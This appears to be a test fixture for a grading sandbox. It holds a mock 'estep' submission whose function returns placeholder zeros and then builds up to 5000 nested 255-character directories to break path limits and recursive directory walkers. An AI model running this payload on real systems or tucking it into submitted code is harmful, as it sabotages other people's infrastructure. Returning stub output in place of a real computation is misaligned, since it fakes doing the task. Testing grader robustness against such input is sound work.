"""Nests thousands of folders in its scratch folder: too deep for a path, and for whoever walks them by recursion."""

CELLS = {
    "estep": r"""
import os

import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


try:
    for _ in range(5000):
        os.mkdir("d" * 255)
        os.chdir("d" * 255)
except OSError:
    pass
""",
}
